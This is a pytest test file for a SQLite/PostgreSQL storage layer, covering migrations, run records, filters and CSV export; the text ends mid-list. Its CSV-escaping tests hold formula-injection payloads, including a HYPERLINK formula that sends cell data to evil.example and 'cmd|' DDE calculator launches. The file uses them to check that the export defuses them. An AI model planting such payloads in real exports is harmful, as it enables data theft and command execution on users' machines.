"""Behaviour of capel_ui.storage against a real SQLite file (no mocks).

Every test that takes the `engine` or `db_url` fixture runs again on a real PostgreSQL server in
tests/test_storage_postgres.py; the upgrade from a database made by older code is in test_storage_upgrade.py.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import random
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, create_engine, inspect, text
from sqlalchemy.engine import Connection

from capel_ui.storage import (
    CSV_COLUMNS,
    BenchResultRecord,
    BenchRunRecord,
    RunRecord,
    StorageError,
    add_bench_result,
    bench_results,
    create_migrated_engine,
    create_run,
    database_url,
    delete_bench_run,
    delete_run,
    dispose_engines,
    distinct_values,
    done_keys,
    errors_summary,
    get_bench_run,
    get_engine,
    get_or_create_bench_run,
    get_run,
    list_bench_runs,
    list_runs,
    runs_to_csv,
    set_bench_run_status,
    update_run,
)
from capel_ui.storage import engine as engine_module
from capel_ui.storage.engine import UPGRADES, applied_migrations, migrate
from capel_ui.storage.schema import BenchResult, BenchRun, Run
from capel_ui.vocab import ORIGINS, PROJECT_ROOT, STATUSES

SCHEMA_VERSIONS = list(range(1, len(UPGRADES) + 2))
"""Every schema version this code knows: 1 (the first shipped schema) and one per upgrade step."""

# --- fixtures and helpers ------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _dispose_cached_engines() -> Iterator[None]:
    yield
    dispose_engines()


@pytest.fixture
def db_url(tmp_path: Path) -> str:
    return f"sqlite:///{tmp_path / 'capel.db'}"


@pytest.fixture
def engine(db_url: str) -> Engine:
    return get_engine(db_url)


def run_fields(**overrides: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "origin": "write",
        "model": "gpt-test",
        "backend": "openai",
        "mode": "capel",
        "lang": "en",
        "unit": "en_words",
        "target": 100,
        "instruction": "Write about the sea.",
    }
    fields.update(overrides)
    return fields


def bench_fields(**overrides: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {"suite": "lifebench", "model": "gpt-test", "modes": "capel,plain", "lengths": "100,200"}
    fields.update(overrides)
    return fields


def result_fields(item_id: str = "item-1", target: int = 100, mode: str = "capel", **overrides: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "item_id": item_id,
        "lang": "en",
        "target": target,
        "mode": mode,
        "model": "gpt-test",
        "status": "ok",
        "count": target,
        "exact": True,
        "valid": True,
    }
    fields.update(overrides)
    return fields


def sqlite_pragma(engine: Engine, name: str) -> Any:
    with engine.connect() as conn:
        return conn.exec_driver_sql(f"PRAGMA {name}").scalar()


def recorded_versions(engine: Engine) -> list[int]:
    return [version for version, _, _ in applied_migrations(engine)]


# --- URL and engine ------------------------------------------------------------------------------


def test_default_db_file_is_data_capel_db_in_the_project_root() -> None:
    assert (PROJECT_ROOT / "capel_ui" / "storage").is_dir()
    assert engine_module.DEFAULT_DB_PATH == PROJECT_ROOT / "data" / "capel.db"


def test_default_url_when_DATABASE_URL_unset_is_that_file_and_creates_data(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # Point the default at a scratch "project" so the test does not create the real data/ folder.
    monkeypatch.delenv("DATABASE_URL", raising=False)
    target = tmp_path / "project" / "data" / "capel.db"
    monkeypatch.setattr(engine_module, "DEFAULT_DB_PATH", target)
    assert database_url() == f"sqlite:///{target}"
    assert target.parent.is_dir()


def test_blank_DATABASE_URL_counts_as_unset(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("DATABASE_URL", "  ")
    monkeypatch.setattr(engine_module, "DEFAULT_DB_PATH", tmp_path / "data" / "capel.db")
    assert database_url().startswith("sqlite:///")


def test_database_url_env_var_is_honoured(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgresql+psycopg://capel@db.example/capel")
    assert database_url() == "postgresql+psycopg://capel@db.example/capel"


def test_get_engine_without_url_uses_DATABASE_URL(monkeypatch: pytest.MonkeyPatch, db_url: str) -> None:
    monkeypatch.setenv("DATABASE_URL", db_url)
    assert get_engine() is get_engine(db_url)
    assert get_engine().url.render_as_string(hide_password=False) == db_url


def test_get_engine_caches_one_engine_per_url(tmp_path: Path) -> None:
    first = get_engine(f"sqlite:///{tmp_path / 'a.db'}")
    assert get_engine(f"sqlite:///{tmp_path / 'a.db'}") is first
    assert get_engine(f"sqlite:///{tmp_path / 'b.db'}") is not first


def test_get_engine_creates_missing_folders_for_sqlite_file(tmp_path: Path) -> None:
    path = tmp_path / "deep" / "er" / "capel.db"
    create_run(get_engine(f"sqlite:///{path}"), **run_fields())
    assert path.is_file()


def test_sqlite_wal_mode_is_on(engine: Engine) -> None:
    """WAL, synced at checkpoints (synchronous NORMAL, 1): a commit outlives a killed process without an fsync."""
    assert (sqlite_pragma(engine, "journal_mode"), sqlite_pragma(engine, "synchronous")) == ("wal", 1)


def test_sqlite_busy_timeout_and_foreign_keys_are_set(engine: Engine) -> None:
    assert sqlite_pragma(engine, "busy_timeout") == 5000
    assert sqlite_pragma(engine, "foreign_keys") == 1


def test_storage_never_imports_streamlit() -> None:
    code = "import sys, capel_ui.storage; assert 'streamlit' not in sys.modules, 'streamlit imported'"
    subprocess.run([sys.executable, "-c", code], cwd=PROJECT_ROOT, check=True)


def _sqlite_with_header_then_noise() -> bytes:
    return b"SQLite format 3\x00" + random.Random(1).randbytes(8176)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(lambda: random.Random(0).randbytes(8192), id="random_bytes"),
        pytest.param(lambda: "Notes, not a database. 不是数据库。\n".encode() * 200, id="a_text_file"),
        pytest.param(_sqlite_with_header_then_noise, id="sqlite_header_then_noise"),
    ],
)
def test_a_file_that_is_not_a_database_raises_storage_error_and_is_left_untouched(tmp_path: Path, content: Any) -> None:
    path = tmp_path / "capel.db"
    data = content()
    path.write_bytes(data)
    for _ in range(2):  # nothing is cached: asking again fails the same way
        with pytest.raises(StorageError) as raised:
            get_engine(f"sqlite:///{path}")
        message = str(raised.value)
        assert message.startswith(f"{path} is not a CAPEL Studio database (or is damaged); move it aside and ")
        assert "a new one will be created, or set DATABASE_URL to another database" in message
    assert path.read_bytes() == data
    assert sorted(p.name for p in tmp_path.glob("capel.db*")) == ["capel.db"]  # no -wal or -shm beside it either


def test_a_database_that_cannot_be_opened_raises_storage_error_naming_it(tmp_path: Path) -> None:
    folder = tmp_path / "a-folder.db"
    folder.mkdir()
    with pytest.raises(StorageError, match=r"cannot open the database at .*a-folder\.db.*DATABASE_URL"):
        get_engine(f"sqlite:///{folder}")


def test_a_database_from_a_newer_capel_studio_is_refused(db_url: str) -> None:
    engine = get_engine(db_url)
    with engine.begin() as conn:
        conn.execute(text("INSERT INTO schema_migrations VALUES (99, 'm099_future', '2099-01-01 00:00:00')"))
    with pytest.raises(StorageError, match="schema version 99, newer than this CAPEL Studio knows"):
        create_migrated_engine(db_url)


# --- schema versions -----------------------------------------------------------------------------


def test_a_new_database_is_created_at_the_newest_version(engine: Engine) -> None:
    applied = applied_migrations(engine)
    assert [(v, name) for v, name, _ in applied] == [(1, "m001_initial")] + [
        (i + 2, step.__name__) for i, step in enumerate(UPGRADES)
    ]
    assert all(at.tzinfo is not None for _, _, at in applied)


def test_opening_again_on_the_same_or_a_fresh_engine_changes_nothing(db_url: str) -> None:
    engine = get_engine(db_url)
    create_run(engine, **run_fields())
    assert get_engine(db_url) is engine
    assert migrate(engine) == []
    fresh = create_migrated_engine(db_url)
    try:
        assert migrate(fresh) == []
        assert recorded_versions(fresh) == SCHEMA_VERSIONS
        assert len(list_runs(fresh)) == 1
    finally:
        fresh.dispose()


def test_upgrade_steps_must_be_numbered_from_two_in_order(engine: Engine) -> None:
    def m099_gap(conn: Connection) -> None:  # pragma: no cover - never runs
        raise AssertionError

    with pytest.raises(ValueError, match="numbered in order"):
        migrate(engine, [*UPGRADES, m099_gap])


def _m_next(sql: str) -> Any:
    """An extra upgrade step numbered after the real ones, running `sql`."""

    def step(conn: Connection) -> None:
        for statement in sql.split(";"):
            conn.execute(text(statement))

    step.__name__ = f"m{len(UPGRADES) + 2:03d}_trial"
    return step


def test_a_later_step_adds_a_column_once(engine: Engine) -> None:
    step = _m_next("ALTER TABLE runs ADD COLUMN note VARCHAR(200)")
    assert migrate(engine, [*UPGRADES, step]) == [len(UPGRADES) + 2]
    assert "note" in {c["name"] for c in inspect(engine).get_columns("runs")}
    assert migrate(engine, [*UPGRADES, step]) == []


def test_a_failing_step_is_rolled_back_and_not_recorded(engine: Engine) -> None:
    step = _m_next("CREATE TABLE half_done (id INTEGER PRIMARY KEY); THIS IS NOT SQL")
    with pytest.raises(Exception, match="syntax error"):
        migrate(engine, [*UPGRADES, step])
    assert not inspect(engine).has_table("half_done")
    assert recorded_versions(engine) == SCHEMA_VERSIONS


def _stale_once(monkeypatch: pytest.MonkeyPatch, name: str, stale: set[int], calls: list[str]) -> None:
    """engine_module.<name> answers `stale` the first time, as if it read just before a racer committed."""
    real = getattr(engine_module, name)

    def stale_first(*args: Any) -> set[int]:
        calls.append(name)
        return stale if calls.count(name) == 1 else real(*args)

    monkeypatch.setattr(engine_module, name, stale_first)


def _racer(url: Any) -> Engine:
    """A second engine on the same database, like another process's, without opening it through get_engine."""
    racer = create_engine(url)
    engine_module._install_sqlite_hooks(racer)
    return racer


def test_creating_continues_when_another_process_created_the_database_first(
    db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    get_engine(db_url)  # "the other process" creates the database first
    # This process looked before the other committed: both checks say "empty", so it creates the tables
    # again (checkfirst: nothing to do) and its version insert hits the primary key; the re-check absorbs that.
    calls: list[str] = []
    _stale_once(monkeypatch, "_recorded_now", set(), calls)
    _stale_once(monkeypatch, "_recorded", set(), calls)
    racer = _racer(db_url)
    try:
        assert migrate(racer) == []
    finally:
        racer.dispose()
    assert calls[:3] == ["_recorded_now", "_recorded", "_recorded_now"]  # stale, stale, the re-check
    assert recorded_versions(get_engine(db_url)) == SCHEMA_VERSIONS


def test_upgrading_continues_when_another_process_applied_the_step_first(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    step = _m_next("ALTER TABLE runs ADD COLUMN note VARCHAR(200)")
    migrate(engine, [*UPGRADES, step])  # "the other process" applies it first
    # This process saw the step missing: its ALTER TABLE fails (duplicate column); the re-check absorbs that.
    calls: list[str] = []
    _stale_once(monkeypatch, "_recorded_now", set(SCHEMA_VERSIONS), calls)
    _stale_once(monkeypatch, "_recorded", set(SCHEMA_VERSIONS), calls)
    racer = _racer(engine.url)
    try:
        assert migrate(racer, [*UPGRADES, step]) == []
    finally:
        racer.dispose()
    assert calls[:3] == ["_recorded_now", "_recorded", "_recorded_now"]  # stale, stale, the re-check
    assert recorded_versions(engine) == [*SCHEMA_VERSIONS, len(UPGRADES) + 2]


def test_processes_migrating_the_same_file_at_once_do_not_crash(db_url: str) -> None:
    code = (
        "import sys; from capel_ui.storage import create_migrated_engine;"
        "from capel_ui.storage.engine import applied_migrations;"
        "e = create_migrated_engine(sys.argv[1]); print(len(applied_migrations(e)))"
    )
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", code, db_url], cwd=PROJECT_ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        for _ in range(4)
    ]
    outputs = [p.communicate(timeout=60) for p in procs]
    for proc, (out, err) in zip(procs, outputs, strict=True):
        assert proc.returncode == 0, err.decode()
        assert out.decode().strip() == str(len(SCHEMA_VERSIONS))


def test_threads_migrating_fresh_engines_on_the_same_file_do_not_crash(db_url: str) -> None:
    barrier = threading.Barrier(6)
    failures: list[BaseException] = []
    engines: list[Engine] = []

    def worker() -> None:
        try:
            barrier.wait()
            engines.append(create_migrated_engine(db_url))
        except BaseException as exc:
            failures.append(exc)

    threads = [threading.Thread(target=worker) for _ in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for e in engines:
        e.dispose()
    assert failures == []
    assert recorded_versions(get_engine(db_url)) == SCHEMA_VERSIONS


def test_a_new_database_whose_write_lock_is_held_past_the_busy_timeout_is_created_once_it_is_free(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """busy_timeout is no queue: a connection that loses its turns past it is refused, so opening a database goes on
    trying to create its schema while another connection holds the lock (as five other threads did under load)."""
    path = tmp_path / "new.db"
    other = sqlite3.connect(path, isolation_level=None, check_same_thread=False)
    other.execute("PRAGMA journal_mode=WAL")
    other.execute("BEGIN IMMEDIATE")
    monkeypatch.setattr(engine_module, "BUSY_TIMEOUT_MS", 50)
    threading.Timer(0.6, other.rollback).start()  # the other writer is done after 12 busy timeouts
    try:
        engine = create_migrated_engine(f"sqlite:///{path}")
    finally:
        other.close()
    assert recorded_versions(engine) == SCHEMA_VERSIONS
    engine.dispose()


def test_the_created_schema_has_the_constraints_the_repository_relies_on(engine: Engine) -> None:
    inspector = inspect(engine)
    assert {"ix_runs_created_at", "ix_runs_model", "ix_runs_mode", "ix_runs_comparison_id", "ix_runs_group_id"} <= {
        i["name"] for i in inspector.get_indexes("runs")
    }
    assert {u["name"] for u in inspector.get_unique_constraints("bench_runs")} == {"uq_bench_runs_key"}
    assert {u["name"] for u in inspector.get_unique_constraints("bench_results")} == {"uq_bench_results_item"}
    [fk] = inspector.get_foreign_keys("bench_results")
    assert fk["referred_table"] == "bench_runs" and fk["options"].get("ondelete") == "CASCADE"


# --- records -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("record", "mapped", "extra"),
    [(RunRecord, Run, []), (BenchRunRecord, BenchRun, ["result_count"]), (BenchResultRecord, BenchResult, [])],
)
def test_records_are_frozen_dataclasses_with_one_field_per_column(record: Any, mapped: Any, extra: list[str]) -> None:
    assert [f.name for f in dataclasses.fields(record)] == [*mapped.__table__.columns.keys(), *extra]
    assert record.__dataclass_params__.frozen


def test_a_read_run_is_a_detached_read_only_copy(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields(errors=[{"type": "skip"}]))
    run = get_run(engine, run_id)
    assert isinstance(run, RunRecord)
    with pytest.raises(dataclasses.FrozenInstanceError):
        run.text = "changed"  # type: ignore[misc]
    dispose_engines()  # no session or connection behind it: every attribute is already there
    assert (run.errors, run.origin, run.verified, run.attempts) == ([{"type": "skip"}], "write", False, [])
    assert dataclasses.asdict(run)["id"] == run_id


# --- runs ----------------------------------------------------------------------------------------


def test_run_round_trips_every_field_including_errors_and_unicode(engine: Engine) -> None:
    errors = [
        {"type": "skip", "start": 3, "end": 7, "message": "跳过了 <41>"},
        {"type": "early_stop", "start": 90, "end": 90, "message": "Stopped — early"},
    ]
    fields = run_fields(
        status="partial",
        instruction="写一首关于大海的诗 🌊",
        prompt='full prompt, with "quotes"\nand newlines',
        raw="<3> 海 <2> 浪 <1> 花 <0>",
        text="海浪花",
        draft="草稿",
        model="qwen2.5:7b",
        backend="compatible",
        base_url="http://localhost:11434/v1",
        mode="capel",
        lang="zh",
        unit="zh_chars",
        target=3,
        count=3,
        exact=True,
        valid=False,
        verified=False,
        origin="compare",
        errors=errors,
        prompt_tokens=120,
        completion_tokens=30,
        seconds=1.25,
        first_token_seconds=0.125,
        temperature=0.7,
        code=True,
        failure="connection reset",
        failure_kind="unreachable",
        finish_reason="length",
        notice="This model misreads the countdown: the baseline instruction was used.",
        comparison_id="cmp-1",
        group_id="grp-1",
        attempts=[{"raw": "<3> 海 <2> 浪", "count": 2, "seconds": 0.5}, {"raw": "<3> 海 <2> 浪 <1> 花 <0>"}],
    )
    run_id = create_run(engine, **fields)
    run = get_run(engine, run_id)
    assert run is not None
    for name, value in fields.items():
        assert getattr(run, name) == value, name
    assert run.id == run_id


def test_create_run_applies_defaults(engine: Engine) -> None:
    run = get_run(engine, create_run(engine, **run_fields()))
    assert run is not None
    assert run.status == "running" and run.verified is False
    assert run.errors == [] and run.attempts == [] and run.code is False
    assert (run.failure_kind, run.finish_reason, run.notice, run.group_id) == (None, None, None, None)
    assert run.raw == "" and run.text == "" and run.draft is None
    assert run.created_at.tzinfo == UTC and run.updated_at.tzinfo == UTC
    assert abs(run.created_at - datetime.now(UTC)) < timedelta(minutes=1)


def test_create_run_without_required_fields_raises(engine: Engine) -> None:
    with pytest.raises(ValueError, match="missing required runs field"):
        create_run(engine, model="m")


def test_every_run_says_where_it_was_started(engine: Engine) -> None:
    fields = run_fields()
    del fields["origin"]
    with pytest.raises(ValueError, match=r"missing required runs field\(s\): \['origin'\]"):
        create_run(engine, **fields)
    for origin in ORIGINS:
        run = get_run(engine, create_run(engine, **run_fields(origin=origin)))
        assert run is not None and run.origin == origin


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        pytest.param({"status": "done"}, "runs.status must be one of", id="unknown_status"),
        pytest.param({"origin": "page"}, "runs.origin must be one of", id="unknown_origin"),
        pytest.param({"origin": None}, "runs.origin cannot be None", id="no_origin"),
        pytest.param({"verified": None}, "runs.verified cannot be None", id="verified_none"),
        pytest.param({"errors": "skip"}, "errors must be a list", id="errors_not_a_list"),
        pytest.param({"attempts": {"raw": "x"}}, "attempts must be a list", id="attempts_not_a_list"),
        pytest.param({"attempts": [object()]}, "each item of attempts must be a mapping", id="attempt_not_a_mapping"),
        pytest.param({"colour": "blue"}, "unknown runs field", id="unknown_field"),
        pytest.param({"api_key": "sk-secret"}, "secrets are never stored", id="api_key"),
        pytest.param({"auth_token": "t"}, "secrets are never stored", id="auth_token"),
    ],
)
def test_a_bad_run_field_is_refused_with_a_readable_message(
    engine: Engine, fields: dict[str, Any], message: str
) -> None:
    with pytest.raises(ValueError, match=message):
        create_run(engine, **run_fields(**fields))
    assert list_runs(engine) == []


def test_statuses_are_the_vocabulary_ones(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields())
    for status in STATUSES:
        update_run(engine, run_id, status=status)
        run = get_run(engine, run_id)
        assert run is not None and run.status == status


def test_updating_a_run_with_an_api_key_raises(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields())
    with pytest.raises(ValueError, match="never stored"):
        update_run(engine, run_id, api_key="sk-secret")


def test_unknown_run_fields_are_rejected_on_update_too(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields())
    with pytest.raises(ValueError, match="unknown runs field"):
        update_run(engine, run_id, colour="blue")
    with pytest.raises(ValueError, match=r"runs\.origin must be one of"):
        update_run(engine, run_id, origin="page")


def test_required_field_set_to_none_is_rejected(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields())
    with pytest.raises(ValueError, match="cannot be None"):
        update_run(engine, run_id, text=None)


def test_update_sets_fields_and_updated_at_but_not_created_at(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields())
    before = get_run(engine, run_id)
    assert before is not None
    update_run(
        engine, run_id, status="complete", text="Done.", count=1, exact=False, verified=False, errors=[{"type": "skip"}]
    )
    after = get_run(engine, run_id)
    assert after is not None
    assert (after.status, after.text, after.count, after.exact, after.verified) == (
        "complete",
        "Done.",
        1,
        False,
        False,
    )
    assert after.errors == [{"type": "skip"}]
    assert after.updated_at > before.updated_at
    assert after.created_at == before.created_at


def test_update_unknown_run_raises_key_error(engine: Engine) -> None:
    with pytest.raises(KeyError):
        update_run(engine, 12345, status="failed")


def test_update_cannot_change_id_or_timestamps(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields())
    for name in ("id", "created_at", "updated_at"):
        with pytest.raises(ValueError, match="cannot be set"):
            update_run(engine, run_id, **{name: datetime.now(UTC) if name != "id" else 9})


def test_errors_accept_objects_with_as_dict_and_dataclasses(engine: Engine) -> None:
    @dataclasses.dataclass(frozen=True)
    class Err:
        type: str
        start: int
        end: int
        message: str

    class WithAsDict:
        def as_dict(self) -> dict[str, object]:
            return {"type": "repeat", "start": 1, "end": 2, "message": "m"}

    run_id = create_run(engine, **run_fields(errors=[Err("skip", 0, 1, "x"), WithAsDict()]))
    run = get_run(engine, run_id)
    assert run is not None
    assert run.errors == [
        {"type": "skip", "start": 0, "end": 1, "message": "x"},
        {"type": "repeat", "start": 1, "end": 2, "message": "m"},
    ]


def test_base_url_credentials_are_stripped(engine: Engine) -> None:
    run_id = create_run(
        engine, **run_fields(base_url="https://user:sk-abc@api.example.com/v1?api-key=sk-abc&api-version=2024")
    )
    run = get_run(engine, run_id)
    assert run is not None
    assert run.base_url == "https://api.example.com/v1?api-version=2024"


def test_nul_characters_are_stored_as_replacement_characters(engine: Engine) -> None:
    # PostgreSQL text cannot hold NUL at all; every backend stores U+FFFD instead (also run on PostgreSQL).
    run_id = create_run(engine, **run_fields(instruction="a\x00b"))
    update_run(engine, run_id, raw="<1> x\x00 <0>", text="x\x00", errors=[{"type": "skip", "message": "\x00"}])
    run = get_run(engine, run_id)
    assert run is not None
    assert (run.instruction, run.raw, run.text) == ("a\ufffdb", "<1> x\ufffd <0>", "x\ufffd")
    assert run.errors == [{"type": "skip", "message": "\x00"}]  # JSON escapes NUL, so errors keep it
    assert [r.id for r in list_runs(engine, search="x\x00")] == [run_id]


def test_get_and_delete_unknown_run(engine: Engine) -> None:
    assert get_run(engine, 999) is None
    assert delete_run(engine, 999) is False


def test_delete_run_removes_it(engine: Engine) -> None:
    keep = create_run(engine, **run_fields())
    gone = create_run(engine, **run_fields())
    assert delete_run(engine, gone) is True
    assert get_run(engine, gone) is None
    assert [r.id for r in list_runs(engine)] == [keep]


def test_non_utc_datetimes_are_stored_as_utc(engine: Engine) -> None:
    tokyo = timezone(timedelta(hours=9))
    run_id = create_run(engine, **run_fields(created_at=datetime(2024, 5, 1, 9, 0, tzinfo=tokyo)))
    run = get_run(engine, run_id)
    assert run is not None
    assert run.created_at == datetime(2024, 5, 1, 0, 0, tzinfo=UTC)
    assert run.created_at.tzinfo == UTC


# --- listing and filters -------------------------------------------------------------------------


def test_list_runs_is_newest_first_and_limited(engine: Engine) -> None:
    base = datetime(2024, 1, 1, tzinfo=UTC)
    ids = [create_run(engine, **run_fields(created_at=base + timedelta(hours=i))) for i in range(5)]
    assert [r.id for r in list_runs(engine)] == ids[::-1]
    assert [r.id for r in list_runs(engine, limit=2)] == ids[:2:-1]
    assert len(list_runs(engine, limit=None)) == 5


@pytest.mark.parametrize(
    ("name", "wanted", "other"),
    [
        ("model", "a", "b"),
        ("mode", "baseline", "capel"),
        ("lang", "zh", "en"),
        ("origin", "cli", "compare"),
        ("comparison_id", "cmp-1", "cmp-2"),
        ("group_id", "grp-1", "grp-2"),
    ],
)
def test_list_runs_filters_by_one_column(engine: Engine, name: str, wanted: str, other: str) -> None:
    hit = create_run(engine, **run_fields(**{name: wanted}))
    create_run(engine, **run_fields(**{name: other}))
    assert [r.id for r in list_runs(engine, **{name: wanted})] == [hit]
    assert len(list_runs(engine)) == 2


def test_verified_only_lists_verified_runs_not_runs_whose_count_happens_to_equal_the_target(engine: Engine) -> None:
    verified = create_run(engine, **run_fields(status="complete", count=100, exact=True, valid=True, verified=True))
    create_run(engine, **run_fields(status="partial", count=100, exact=True, valid=True, verified=False))  # cut off
    create_run(engine, **run_fields(status="complete", count=99, exact=False, valid=True, verified=False))
    create_run(engine, **run_fields())  # still running
    assert [r.id for r in list_runs(engine, verified_only=True)] == [verified]
    assert len(list_runs(engine)) == 4


def test_storage_never_decides_verified_the_caller_does(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields())
    update_run(engine, run_id, status="complete", count=100, exact=True, valid=True)
    run = get_run(engine, run_id)
    assert run is not None and run.verified is False
    update_run(engine, run_id, verified=True)
    assert [r.id for r in list_runs(engine, verified_only=True)] == [run_id]


def test_list_runs_date_range_is_half_open(engine: Engine) -> None:
    day = datetime(2024, 3, 10, tzinfo=UTC)
    before = create_run(engine, **run_fields(created_at=day - timedelta(seconds=1)))
    start = create_run(engine, **run_fields(created_at=day))
    inside = create_run(engine, **run_fields(created_at=day + timedelta(hours=23)))
    end = create_run(engine, **run_fields(created_at=day + timedelta(days=1)))
    found = [r.id for r in list_runs(engine, since=day, until=day + timedelta(days=1))]
    assert found == [inside, start]
    assert [r.id for r in list_runs(engine, since=day + timedelta(days=1))] == [end]
    assert [r.id for r in list_runs(engine, until=day)] == [before]


def test_list_runs_naive_datetimes_are_treated_as_utc(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields(created_at=datetime(2024, 3, 10, 12, tzinfo=UTC)))
    assert [r.id for r in list_runs(engine, since=datetime(2024, 3, 10, 12))] == [run_id]
    assert list_runs(engine, since=datetime(2024, 3, 10, 12, 0, 1)) == []


def test_list_runs_search_is_case_insensitive_over_instruction_and_text(engine: Engine) -> None:
    by_instruction = create_run(engine, **run_fields(instruction="Tell me about WHALES"))
    by_text = create_run(engine, **run_fields(instruction="Anything", text="The whale sang."))
    create_run(engine, **run_fields(instruction="Dolphins", text="Fins."))
    assert {r.id for r in list_runs(engine, search="whale")} == {by_instruction, by_text}
    assert {r.id for r in list_runs(engine, search="WHALE")} == {by_instruction, by_text}


def test_list_runs_search_finds_chinese_text(engine: Engine) -> None:
    sea = create_run(engine, **run_fields(lang="zh", instruction="写一首诗", text="大海在歌唱。"))
    create_run(engine, **run_fields(lang="zh", instruction="写一篇文章", text="山很高。"))
    assert [r.id for r in list_runs(engine, search="大海")] == [sea]
    assert [r.id for r in list_runs(engine, search="一首")] == [sea]


def test_list_runs_search_folds_non_ascii_case(engine: Engine) -> None:
    run_id = create_run(engine, **run_fields(instruction="ÉTÉ À PARIS"))
    assert [r.id for r in list_runs(engine, search="été")] == [run_id]


def test_list_runs_search_treats_wildcards_literally(engine: Engine) -> None:
    pct = create_run(engine, **run_fields(text="100% sure"))
    create_run(engine, **run_fields(text="100 percent sure"))
    assert [r.id for r in list_runs(engine, search="100%")] == [pct]
    assert list_runs(engine, search="1_0") == []


def test_list_runs_blank_search_matches_everything(engine: Engine) -> None:
    create_run(engine, **run_fields())
    assert len(list_runs(engine, search="   ")) == 1


def test_list_runs_filters_by_comparison_id_and_combines_filters(engine: Engine) -> None:
    a = create_run(engine, **run_fields(comparison_id="cmp", mode="capel"))
    create_run(engine, **run_fields(comparison_id="cmp", mode="plain"))
    create_run(engine, **run_fields(comparison_id="other", mode="capel"))
    assert len(list_runs(engine, comparison_id="cmp")) == 2
    assert [r.id for r in list_runs(engine, comparison_id="cmp", mode="capel")] == [a]


def test_distinct_values_lists_sorted_non_null_values(engine: Engine) -> None:
    for model, mode in (("b", "plain"), ("a", "capel"), ("b", "capel")):
        create_run(engine, **run_fields(model=model, mode=mode))
    assert distinct_values(engine, "model") == ["a", "b"]
    assert distinct_values(engine, "mode") == ["capel", "plain"]
    assert distinct_values(engine, "comparison_id") == []


def test_distinct_values_also_lists_origins_and_groups(engine: Engine) -> None:
    create_run(engine, **run_fields(origin="write"))
    create_run(engine, **run_fields(origin="variant", group_id="g2"))
    create_run(engine, **run_fields(origin="variant", group_id="g1"))
    assert distinct_values(engine, "origin") == ["variant", "write"]
    assert distinct_values(engine, "group_id") == ["g1", "g2"]


def test_distinct_values_rejects_other_columns(engine: Engine) -> None:
    with pytest.raises(ValueError):
        distinct_values(engine, "instruction")


# --- CSV -----------------------------------------------------------------------------------------


def csv_rows(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


def test_csv_has_one_column_per_run_field_and_parses_back_with_commas_newlines_quotes(engine: Engine) -> None:
    tricky = 'Line one, with a comma\nline "two"\r\nand 中文'
    run_id = create_run(
        engine,
        **run_fields(
            instruction=tricky,
            exact=True,
            errors=[{"type": "skip"}, {"type": "skip"}, {"type": "early_stop"}],
            attempts=[{"count": 3}],
        ),
    )
    [row] = csv_rows(runs_to_csv(list_runs(engine)))
    assert list(row) == list(CSV_COLUMNS) == [f.name for f in dataclasses.fields(RunRecord)]
    assert {"verified", "origin", "group_id", "notice", "failure_kind", "finish_reason"} <= set(CSV_COLUMNS)
    assert row["id"] == str(run_id) and row["origin"] == "write"
    assert row["instruction"] == tricky
    assert row["exact"] == "true" and row["valid"] == "" and row["code"] == "false" and row["verified"] == "false"
    assert row["errors"] == "skip×2; early_stop×1"
    assert row["attempts"] == '[{"count": 3}]'
    assert datetime.fromisoformat(row["created_at"]).tzinfo is not None


def test_csv_verified_column_says_which_runs_are_verified(engine: Engine) -> None:
    create_run(engine, **run_fields(status="complete", count=100, exact=True, valid=True, verified=True))
    create_run(engine, **run_fields(status="partial", count=100, exact=True, valid=True, verified=False))
    rows = csv_rows(runs_to_csv(list_runs(engine)))
    assert [(r["status"], r["count"], r["exact"], r["verified"]) for r in rows] == [
        ("partial", "100", "true", "false"),
        ("complete", "100", "true", "true"),
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        pytest.param(
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            id="equals",
        ),
        pytest.param("+1", "'+1", id="plus"),
        pytest.param("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0", id="minus"),
        pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
        pytest.param("\t=1+1", "'\t=1+1", id="leading_tab"),
        pytest.param("\r=1+1", "'\r=1+1", id="leading_carriage_return"),
        pytest.param("  =1+1", "'  =1+1", id="leading_spaces_before_equals"),
        pytest.param("\n\n=1+1", "'\n\n=1+1", id="leading_newlines_before_equals"),
        pytest.param(" \t-2+3", "' \t-2+3", id="leading_blanks_before_minus"),
        pytest.param("\0=1+1", "\ufffd=1+1", id="a_null_asvs_1_2_10_names_is_replaced_when_saved"),
        pytest.param("-3", "'-3", id="a_number_in_a_text_column_is_text"),
        pytest.param("A = B + C", "A = B + C", id="formula_characters_later_are_fine"),
        pytest.param("'quoted already", "'quoted already", id="leading_quote_left_alone"),
        pytest.param("", "", id="empty"),
    ],
